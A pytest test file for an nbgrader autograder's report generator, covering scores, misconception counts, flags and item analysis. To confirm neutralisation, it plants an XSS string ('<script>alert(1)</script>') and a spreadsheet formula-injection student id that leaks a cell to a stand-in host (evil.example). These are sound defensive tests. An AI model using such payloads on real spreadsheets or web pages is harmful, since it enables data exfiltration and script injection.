"""The grade report (autograder/report.py) against a gradebook with known contents, and the demo.

The known course is built in a temporary directory through nbgrader's own Gradebook API, with
autograded notebooks whose outputs carry diagnosis and flag lines, and a runner's runs.json. Every
expected value below is one of those inputs, worked out by hand.
"""

from __future__ import annotations

import base64
import contextlib
import csv
import io
import json
import re
import shutil
from collections import Counter
from html.parser import HTMLParser
from pathlib import Path

import nbformat
import pytest
from conftest import ASSIGNMENTS
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output
from nbgrader.api import Gradebook

from autograder.checks.framework import diagnoses_in
from autograder.notebooks import add_flag, diagnoses, set_record
from autograder.record import CheckRecord, Diagnosis
from autograder.tools import report
from autograder.tools.demo import DEMO_PREFIX, load_samples
from course.plots import COLORS

ASSIGNMENT, NOTEBOOK = "hw1", "hw"
CONFIG = f"""
ASSIGNMENTS = {{"{ASSIGNMENT}": "{NOTEBOOK}.ipynb", "hw2": "later.ipynb"}}
c = get_config()
c.CourseDirectory.course_id = "report-test"
"""
RED, RESET = "\x1b[0;31m", "\x1b[0m"

# (cell, points) of the known assignment; answer_q is a manually graded written answer.
CELLS = {"test_a": ("code", 4.0), "test_b": ("code", 2.0), "answer_q": ("markdown", 2.0)}
# auto scores per student and cell (None: never set); manual scores for answer_q
AUTO = {
    "alice": {"test_a": 4.0, "test_b": 2.0},
    "bob": {"test_a": 2.5, "test_b": 0.0},
    "carol": {"test_a": 0.0, "test_b": 1.0},
    "dan": {"test_a": None, "test_b": None},
    "frank": {"test_a": 3.0, "test_b": 2.0},
}
MANUAL = {"bob": 1.5}
# outputs of the test cells, and of alice's answer cell (a student's own print of a fake diagnosis);
# only the records below count (a test cell's text is never read: carol's M5 is only text)
STREAMS = {
    "alice": {"answer": "Diagnosis M3: I printed this myself\n"
                        "Flag [tampering]: and this, which is only text\n"},
    "carol": {"test_a": "  Diagnosis M5: text in a test cell's output, without a record\n"},
    "bob": {
        "test_a": "f: part 1 failed\nDiagnosis M1: the output matches the unbiased variance\n",
        "test_b": "Diagnosis M1: again\nDiagnosis M7: running_var biased\n",
    },
}
STREAMS["carol"]["test_b"] = "Diagnosis M1: the output matches the unbiased variance\n"
# the diagnoses the hidden checks recorded in each test cell's trusted metadata
RECORDED = {"bob": {"test_a": ["M1"], "test_b": ["M1", "M7"]}, "carol": {"test_b": ["M1"]}}
ERRORS = {  # error outputs (ename, evalue, traceback) in test_a
    "carol": ("RuntimeError", "grading stopped",
              [f"{RED}RuntimeError{RESET}: grading stopped",
               f"{RED}Flag [tampering]: numpy.allclose was replaced{RESET}"]),
    "frank": ("DeadKernelError", "Flag [kernel-died]: the kernel died (SIGSEGV)", []),
}
# flags as the trusted grading process records them in the test cell's metadata
# (autograder.notebooks.add_flag); the report reads only these, never output text
TRUSTED_FLAGS = {
    "carol": [("tampering", "numpy.allclose was replaced")],
    "frank": [("kernel-died", "the kernel died (SIGSEGV)")],
}
RUNS = {
    "assignment": ASSIGNMENT, "workers": 2, "sandboxed": True,
    "started": "2026-11-20T09:00:00+00:00", "seconds": 12.5,
    "students": {
        "alice": {"status": "graded", "reason": "", "seconds": 2.0, "flags": []},
        "bob": {"status": "graded", "reason": "", "seconds": 2.0, "flags": []},
        "carol": {"status": "graded", "reason": "", "seconds": 2.0,
                  "flags": [["reference-access", "imported autograder.reference"]]},
        "dan": {"status": "timeout", "reason": "exceeded the 120 s wall-clock limit",
                "seconds": 120.0, "flags": [["timeout", "killed after 120 s"]]},
        "frank": {"status": "crashed", "reason": "kernel died <script>alert(1)</script>",
                  "seconds": 3.0, "flags": []},
    },
}
# what the CSV must hold, worked out from the inputs above (max 4 + 2 + 2 = 8 points)
EXPECTED_ROWS = [
    {"student": "alice", "score": "6", "max_score": "8", "hw.ipynb": "6", "diagnoses": "",
     "flags": "", "status": "graded"},
    {"student": "bob", "score": "4", "max_score": "8", "hw.ipynb": "4", "diagnoses": "M1 M7",
     "flags": "", "status": "graded"},
    {"student": "carol", "score": "1", "max_score": "8", "hw.ipynb": "1", "diagnoses": "M1",
     "flags": "reference-access tampering", "status": "graded"},
    {"student": "dan", "score": "0", "max_score": "8", "hw.ipynb": "0", "diagnoses": "",
     "flags": "timeout", "status": "timeout"},
    {"student": "erin", "score": "", "max_score": "8", "hw.ipynb": "", "diagnoses": "",
     "flags": "", "status": "not graded"},
    {"student": "frank", "score": "5", "max_score": "8", "hw.ipynb": "5", "diagnoses": "",
     "flags": "kernel-died", "status": "crashed"},
]


def _nbgrader_cell(cell, grade_id: str, grade: bool, solution: bool, points: float = 0.0):
    cell.metadata["nbgrader"] = {"grade": grade, "grade_id": grade_id, "locked": not solution,
                                 "points": points, "schema_version": 3, "solution": solution,
                                 "task": False}
    return cell


def _autograded_notebook(student: str) -> nbformat.NotebookNode:
    streams = STREAMS.get(student, {})
    answer = _nbgrader_cell(new_code_cell("def f(x):\n    return x"), "f", False, True)
    cells = {"answer": answer}
    for name in ("test_a", "test_b"):
        cells[name] = _nbgrader_cell(new_code_cell(f"check_{name}(f)"), name, True, False,
                                     CELLS[name][1])
    for name, text in streams.items():
        cells[name].outputs.append(new_output("stream", name="stdout", text=text))
    if student in ERRORS:
        ename, evalue, tb = ERRORS[student]
        cells["test_a"].outputs.append(new_output("error", ename=ename, evalue=evalue,
                                                  traceback=tb))
    for kind, reason in TRUSTED_FLAGS.get(student, []):
        add_flag(cells["test_a"], kind, reason)
    for name, ids in RECORDED.get(student, {}).items():
        record = CheckRecord("f", CELLS[name][1], 0.0, diagnoses=[
            Diagnosis(mk, mk, "explained", "a part") for mk in ids])
        set_record(cells[name], record.to_dict())
    written = _nbgrader_cell(new_markdown_cell("YOUR ANSWER HERE"), "answer_q", True, True, 2.0)
    return new_notebook(cells=[cells["answer"], cells["test_a"], cells["test_b"], written])


def _build_course(root: Path) -> Path:
    """Write the known course into ``root``: gradebook, submitted/, autograded/, runs.json."""
    root.mkdir()
    (root / "nbgrader_config.py").write_text(CONFIG)
    with Gradebook(f"sqlite:///{root / 'gradebook.db'}", course_id="report-test") as gb:
        gb.add_assignment(ASSIGNMENT)
        gb.add_notebook(NOTEBOOK, ASSIGNMENT)
        for name, (cell_type, points) in CELLS.items():
            gb.add_grade_cell(name, NOTEBOOK, ASSIGNMENT, max_score=points, cell_type=cell_type)
        gb.add_assignment("hw2")
        for student in AUTO:
            gb.add_student(student)
            gb.add_submission(ASSIGNMENT, student)
            for cell, score in AUTO[student].items():
                grade = gb.find_grade(cell, NOTEBOOK, ASSIGNMENT, student)
                grade.auto_score = score
                grade.needs_manual_grade = False
            if student in MANUAL:
                grade = gb.find_grade("answer_q", NOTEBOOK, ASSIGNMENT, student)
                grade.manual_score = MANUAL[student]
                grade.needs_manual_grade = False
        gb.db.commit()
    for student in [*AUTO, "erin"]:  # erin submitted but was never graded
        folder = root / "submitted" / student / ASSIGNMENT
        folder.mkdir(parents=True)
        (folder / f"{NOTEBOOK}.ipynb").write_text("{}")
    for student in ("alice", "bob", "carol", "frank"):  # dan timed out: no autograded notebook
        folder = root / "autograded" / student / ASSIGNMENT
        folder.mkdir(parents=True)
        nbformat.write(_autograded_notebook(student), folder / f"{NOTEBOOK}.ipynb")
    runs = root / "reports" / ASSIGNMENT / "runs.json"
    runs.parent.mkdir(parents=True)
    runs.write_text(json.dumps(RUNS))
    return root


@pytest.fixture(scope="module")
def course_template(tmp_path_factory) -> Path:
    """The known course, built once (a new gradebook takes seconds: nbgrader runs alembic)."""
    return _build_course(tmp_path_factory.mktemp("template") / "course")


@pytest.fixture
def course(tmp_path, course_template) -> Path:
    """A private copy of the known course, free to modify."""
    return Path(shutil.copytree(course_template, tmp_path / "course"))


@pytest.fixture(scope="module")
def rendered(tmp_path_factory, course_template):
    """The known course's report, run once: (html, csv rows, out dir, printed text)."""
    root = Path(shutil.copytree(course_template, tmp_path_factory.mktemp("rendered") / "c"))
    printed = io.StringIO()
    with contextlib.redirect_stdout(printed):
        html, rows, out = _run_report(root)
    return html, rows, out, printed.getvalue()


class _Tables(HTMLParser):
    """Text of every cell of every <table id=...>, as {id: [[cell, ...], ...]} (body rows)."""

    def __init__(self, text: str):
        super().__init__()
        self.tables: dict[str, list[list[str]]] = {}
        self._table = self._row = self._cell = None
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        if tag == "table":
            self._table = self.tables.setdefault(dict(attrs).get("id", ""), [])
        elif tag == "tr" and self._table is not None:
            self._row = []
        elif tag == "td" and self._row is not None:
            self._cell = []

    def handle_endtag(self, tag):
        if tag == "td" and self._cell is not None:
            self._row.append("".join(self._cell).strip())
            self._cell = None
        elif tag == "tr" and self._row is not None:
            if self._row:  # header rows hold <th> only
                self._table.append(self._row)
            self._row = None
        elif tag == "table":
            self._table = None

    def handle_data(self, data):
        if self._cell is not None:
            self._cell.append(data)


def _read_csv(path: Path) -> list[dict[str, str]]:
    with open(path, newline="") as f:
        return list(csv.DictReader(f))


def _run_report(root: Path, assignment: str = ASSIGNMENT) -> tuple[str, list[dict], str]:
    out = root / "out"
    assert report.main([assignment, "--root", str(root), "--out", str(out)]) == 0
    html = (out / "report.html").read_text()
    return html, _read_csv(out / "report.csv"), out


def _assert_offline(html: str) -> None:
    assert not re.search(r"(?:src|href)\s*=\s*[\"']?\s*(?:https?:)?//", html, re.I)
    assert "http://" not in html and "https://" not in html
    assert "<script" not in html.lower() and "<link" not in html.lower()


def test_csv_rows_are_the_gradebook_and_notebook_contents(rendered):
    _, rows, _, _ = rendered
    assert rows == EXPECTED_ROWS


def test_html_has_the_histogram_and_needs_no_network(rendered):
    html, _, out, printed = rendered
    assert "hw1: 6 students, 3 graded, 4 flagged, 1 not graded" in printed
    assert str(out / "report.html") in printed
    match = re.search(r'<img src="data:image/png;base64,([A-Za-z0-9+/=]+)"', html)
    assert match, "no embedded PNG histogram"
    assert base64.b64decode(match.group(1)).startswith(b"\x89PNG\r\n\x1a\n")
    _assert_offline(html)


def test_pass_rates_per_test_cell(rendered):
    html = rendered[0]
    cells = _Tables(html).tables["cells"]
    # test_a: alice 4/4 full; bob 2.5 and frank 3 partial; carol 0 and dan (never scored) zero.
    # test_b: alice and frank 2/2 full; carol 1 partial; bob 0 and dan zero. answer_q is written.
    assert [row[1:6] for row in cells] == [
        ["test_a", "4", "1", "2", "2"],
        ["test_b", "2", "2", "1", "2"],
    ]
    assert [row[6] for row in cells] == ["20%", "40%"]
    assert [float(row[7]) for row in cells] == [pytest.approx(9.5 / 5), pytest.approx(5 / 5)]


def test_mistake_counts_skip_a_students_own_prints(rendered):
    html = rendered[0]
    mistakes = {row[0]: row for row in _Tables(html).tables["mistakes"]}
    assert set(mistakes) == {"M1", "M7"}  # alice's self-printed "Diagnosis M3" is not a finding
    assert mistakes["M1"][2] == "2" and mistakes["M1"][4] == "bob, carol"
    assert mistakes["M7"][2] == "1" and mistakes["M7"][4] == "bob"
    assert "sample variance" in mistakes["M1"][1]  # the catalogue's title for M1
    assert "running_var" in mistakes["M7"][1]


def test_flagged_students_with_their_reasons(rendered):
    html = rendered[0]
    flagged = {(row[0], row[2], row[3]) for row in _Tables(html).tables["flagged"]}
    assert flagged == {
        ("carol", "reference-access", "imported autograder.reference"),
        ("carol", "tampering", "numpy.allclose was replaced"),  # from trusted metadata
        ("dan", "timeout", "exceeded the 120 s wall-clock limit"),
        ("dan", "timeout", "killed after 120 s"),
        ("erin", "not graded", "no autograded notebook in autograded/erin/"),
        ("frank", "crashed", "kernel died <script>alert(1)</script>"),
        ("frank", "kernel-died", "the kernel died (SIGSEGV)"),
    }
    assert "kernel died &lt;script&gt;alert(1)&lt;/script&gt;" in html  # escaped, not run


def test_without_runs_json_the_gradebook_and_notebooks_suffice(course):
    (course / "reports" / ASSIGNMENT / "runs.json").unlink()
    data = report.collect(ASSIGNMENT, course)
    by_student = {s.student: s for s in data.students}
    assert by_student["dan"].status == "not graded" and by_student["dan"].score is None
    assert by_student["frank"].status == "graded" and by_student["frank"].score == 5.0
    assert by_student["frank"].flags == [("kernel-died", "the kernel died (SIGSEGV)")]
    assert by_student["carol"].flags == [("tampering", "numpy.allclose was replaced")]
    assert data.run is None and data.notes == []


def test_runs_json_of_another_assignment_is_ignored_with_a_note(course):
    (course / "reports" / ASSIGNMENT / "runs.json").write_text(json.dumps({**RUNS,
                                                                          "assignment": "hw2"}))
    data = report.collect(ASSIGNMENT, course)
    assert data.run is None and "'hw2'" in data.notes[0]
    assert {s.student: s.status for s in data.students}["frank"] == "graded"


def test_unreadable_runs_json_is_noted_in_the_report(course):
    (course / "reports" / ASSIGNMENT / "runs.json").write_text('{"students": {')
    html, rows, _ = _run_report(course)
    assert "runs.json ignored: it is not readable JSON" in html
    assert {r["student"]: r["status"] for r in rows}["dan"] == "not graded"


def test_a_graded_student_with_a_missing_notebook_is_flagged(course):
    (course / "autograded" / "alice" / ASSIGNMENT / f"{NOTEBOOK}.ipynb").unlink()
    (course / "autograded" / "alice" / ASSIGNMENT / "other.ipynb").write_text("{}")
    data = report.collect(ASSIGNMENT, course)
    alice = next(s for s in data.students if s.student == "alice")
    assert alice.status == "graded" and alice.score == 6.0  # runs.json says graded
    assert alice.flags == [("missing-notebook", "no autograded hw.ipynb")]


def test_malformed_autograded_notebook_is_flagged_not_fatal(course):
    (course / "autograded" / "bob" / ASSIGNMENT / f"{NOTEBOOK}.ipynb").write_text("{not json")
    data = report.collect(ASSIGNMENT, course)
    bob = next(s for s in data.students if s.student == "bob")
    assert [k for k, _ in bob.flags] == ["malformed-notebook"] and bob.score == 4.0


def test_no_submissions_gives_a_report_that_says_so(course, capsys):
    html, rows, _ = _run_report(course, "hw2")
    assert rows == []
    header = next(csv.reader(io.StringIO((course / "out" / "report.csv").read_text())))
    assert header == ["student", "score", "max_score", "later.ipynb", "diagnoses", "flags", "status"]
    assert "No submissions for hw2" in html
    assert "hw2: no submissions yet." in capsys.readouterr().out
    _assert_offline(html)


def test_no_gradebook_at_all_is_no_submissions_and_creates_none(tmp_path):
    (tmp_path / "nbgrader_config.py").write_text(CONFIG)
    data = report.collect(ASSIGNMENT, tmp_path)
    assert data.students == [] and data.cells == []
    assert not (tmp_path / "gradebook.db").exists()


def test_unknown_assignment_lists_the_known_ones(course, capsys):
    assert report.main(["nope", "--root", str(course)]) == 2
    assert "unknown assignment 'nope'; the course has: hw1, hw2" in capsys.readouterr().err
    with pytest.raises(ValueError, match="hw1, hw2"):
        report.collect("nope", course)


def test_root_must_be_a_course_directory(tmp_path):
    with pytest.raises(ValueError, match="nbgrader_config.py"):
        report.collect(ASSIGNMENT, tmp_path)


def test_histogram_counts_every_score_once_in_course_colours():
    scores, top = [6.0, 4.0, 1.0, 0.0, 5.0, 8.0, 7.5], 8.0
    fig = report.score_histogram(scores, top, "hw1")
    ax = fig.axes[0]
    bars = ax.patches
    assert sum(b.get_height() for b in bars) == len(scores)
    for s in scores:  # each score sits in a bar [x, x + width) (the last one closed)
        assert any(b.get_x() <= s <= b.get_x() + b.get_width() and b.get_height() >= 1
                   for b in bars)
    assert ax.get_xlim() == (0.0, top)
    assert "[points" in ax.get_xlabel() and "[count]" in ax.get_ylabel() and ax.get_title()
    colours = {tuple(round(v, 3) for v in b.get_facecolor()[:3]) for b in bars}
    okabe_ito = {tuple(round(int(c[i:i + 2], 16) / 255, 3) for i in (1, 3, 5)) for c in COLORS}
    assert colours <= okabe_ito


def test_catalogue_titles_cover_m1_to_mn():
    titles = report.misconception_titles()
    numbers = sorted(int(m[1:]) for m in titles)
    assert numbers == list(range(1, len(numbers) + 1)) and len(numbers) >= 21
    assert all(t and "|" not in t for t in titles.values())


def test_missing_catalogue_is_a_clear_error(tmp_path):
    with pytest.raises(FileNotFoundError, match="catalogue"):
        report.misconception_titles(tmp_path / "MISCONCEPTIONS.md")


def test_report_over_the_demo_matches_the_samples_and_nbgrader(demo_run, tmp_path):
    """The report of a real demo run: scores as nbgrader exports them, diagnoses as the feedback
    shows them, and mistake counts equal to what the samples declare (``expect``)."""
    root, _ = demo_run
    with open(root / "grades.csv") as f:
        exported = {(r["assignment"], r["student_id"]): r for r in csv.DictReader(f)}
    for assignment, notebook in ASSIGNMENTS.items():
        out = tmp_path / assignment
        assert report.main([assignment, "--root", str(root), "--out", str(out)]) == 0
        rows = {r["student"]: r for r in _read_csv(out / "report.csv")}
        samples = load_samples(notebook).STUDENTS
        assert set(rows) == {DEMO_PREFIX + name for name in samples}
        declared: Counter[str] = Counter()
        found: Counter[str] = Counter()
        for name, sample in samples.items():
            student = DEMO_PREFIX + name
            row = rows[student]
            nbgrader_row = exported[(assignment, student)]
            assert float(row["score"]) == pytest.approx(float(nbgrader_row["score"]), abs=1e-6)
            assert float(row["max_score"]) == float(nbgrader_row["max_score"])
            assert row["status"] == "graded" and row["flags"] == ""
            feedback = root / "feedback" / student / assignment / notebook.replace(".ipynb", ".html")
            recorded = diagnoses(nbformat.read(root / "autograded" / student / assignment
                                               / notebook, as_version=4))
            assert set(row["diagnoses"].split()) == recorded, (assignment, name)
            assert recorded <= diagnoses_in(feedback.read_text()), "the feedback shows each"
            assert set(sample["expect"]["diagnoses"]) <= recorded, (assignment, name)
            declared.update(sample["expect"]["diagnoses"])
            found.update(recorded)
        table = _Tables((out / "report.html").read_text()).tables.get("mistakes", [])
        counts = {row[0]: int(row[2]) for row in table}
        assert counts == dict(found), assignment
        assert counts == dict(declared), assignment


# ----------------------------------------------------------------------------- item analysis
def test_item_analysis_against_values_worked_by_hand(rendered):
    """Scores per student (alice, bob, carol, dan, frank), from AUTO and MANUAL above:
    test_a [4, 2.5, 0, 0, 3], test_b [2, 0, 1, 0, 2]; answer_q is graded for bob only (1.5),
    the others still wait (nbgrader's totals count them 0): totals [6, 4, 1, 0, 5].
    Corrected item-total correlation, r(item, total - item):

    test_a: rest [2, 1.5, 1, 0, 2]; deviations x [2.1, .6, -1.9, -1.9, 1.1], y [.7, .2, -.3,
      -1.3, .7]; sum xy 5.4, sum x² 13.2, sum y² 2.8; r = 5.4 / sqrt(36.96) = 0.888.
    test_b: rest [4, 4, 0, 0, 3]; x [1, -1, 0, -1, 1], y [1.8, 1.8, -2.2, -2.2, .8];
      sum xy 3.0, sum x² 4, sum y² 16.8; r = 3 / sqrt(67.2) = 0.366.
    answer_q: one student (bob, 1.5 of 2): mean 1.5, nobody at full marks, r undefined.
    Means 9.5/5 = 1.9, 5/5 = 1; full marks 1/5, 2/5. Misconceptions in the test cells'
    outputs: test_a M1 (bob); test_b M1 (bob, carol) and M7 (bob).
    """
    html = rendered[0]
    items = {row[0]: row for row in _Tables(html).tables["items"]}
    assert list(items) == ["test_a", "test_b", "answer_q"]
    assert items["test_a"][1:] == ["test", "4", "5", "1.9", "20%", "0.89", "M1 ×1"]
    assert items["test_b"][1:] == ["test", "2", "5", "1", "40%", "0.37", "M1 ×2, M7 ×1"]
    assert items["answer_q"][1:] == ["written", "2", "1", "1.5", "0%", "-", "-"]
    figures = re.findall(r'<img src="data:image/png;base64,([A-Za-z0-9+/=]+)"', html)
    assert len(figures) == 2  # the histogram and the item-analysis heat map
    assert base64.b64decode(figures[1]).startswith(b"\x89PNG\r\n\x1a\n")


def test_corrected_item_total_correlation_matches_its_definition():
    from autograder.tools.report.items import corrected_item_total

    # an item that ranks students exactly as the rest does: r = 1; the reverse: r = -1
    assert corrected_item_total([0, 1, 2], [0, 2, 4]) == pytest.approx(1.0)
    assert corrected_item_total([2, 1, 0], [2, 2, 2]) == pytest.approx(-1.0)
    assert corrected_item_total([1, 1, 1], [1, 2, 3]) is None  # constant item
    assert corrected_item_total([1, 2], [1, 2]) is None  # fewer than three students
    with pytest.raises(ValueError, match="same length"):
        corrected_item_total([1, 2, 3], [1, 2])


def test_a_written_answer_counts_once_graded(course):
    """Once alice's answer is graded (2 of 2), answer_q has two students: bob 1.5 and alice 2;
    the others still wait and stay out of it."""
    with Gradebook(f"sqlite:///{course / 'gradebook.db'}", course_id="report-test") as gb:
        grade = gb.find_grade("answer_q", NOTEBOOK, ASSIGNMENT, "alice")
        grade.manual_score = 2.0
        grade.needs_manual_grade = False
        gb.db.commit()
    items = {i.cell: i for i in report.collect(ASSIGNMENT, course).items.items}
    assert items["answer_q"].n == 2 and items["test_a"].n == 5
    assert items["answer_q"].mean == pytest.approx(1.75)
    assert items["answer_q"].full_share == pytest.approx(0.5)


def test_report_csv_neutralizes_a_formula_in_a_student_id(course, tmp_path):
    """Issue 19: a student id from a folder name reaches report.csv as text, not a formula."""
    hostile = '=HYPERLINK("evil.example?"&A1,"x")'
    (course / "submitted" / hostile / ASSIGNMENT).mkdir(parents=True)
    import subprocess
    import sys

    from conftest import ROOT

    out = subprocess.run([sys.executable, "-m", "autograder", "report", ASSIGNMENT, "--root",
                          str(course)], cwd=ROOT, capture_output=True, text=True, timeout=300)
    assert out.returncode == 0, out.stderr
    with open(course / "reports" / ASSIGNMENT / "report.csv", newline="") as fh:
        cells = [c for row in csv.reader(fh) for c in row]
    assert "'" + hostile in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_the_report_links_the_similarity_page_when_it_is_there(course):
    out = course / "reports" / ASSIGNMENT
    (out / "similarity.html").write_text("<html></html>")
    assert report.main([ASSIGNMENT, "--root", str(course)]) == 0
    assert '<a href="similarity.html">' in (out / "report.html").read_text()
